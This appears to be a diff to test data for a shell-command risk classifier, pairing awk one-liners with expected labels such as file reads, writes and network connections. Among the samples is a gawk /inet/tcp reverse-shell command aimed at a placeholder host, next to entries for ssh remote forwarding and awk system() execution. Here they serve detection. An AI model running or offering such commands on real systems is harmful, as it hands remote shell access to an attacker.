@@ -91,9 +91,9 @@ TABLE: dict[str, list[str]] = {
         "run [awk system] may: <sh> ssh -R *",
     ],
     "awk '{system($0)}'": ["? high unknown_code"],
-    "awk '{print > \"/tmp/\" $1}' f": ["read f", "write /tmp/*1"],
+    "awk '{print > \"/tmp/\" $1}' f": ["read f", "write /tmp/*"],
     "awk '{print $1 >> \"/tmp/o\"}' f": ["read f", "append /tmp/o"],
-    "awk 'BEGIN{s=\"/inet/tcp/0/h/99\"; while((s|&getline c)>0) while((c|&getline)>0) print |& s}'": [
+    "awk 'BEGIN{s=\"/inet/tcp/0/h/99\"; while((s|&getline c)>0) while((c|&getline)>0) print |& s}'": [  # noqa: E501
         "connect tcp h:99",
         "shell reverse h:99 (gawk /inet)",
         "? high unknown_code",
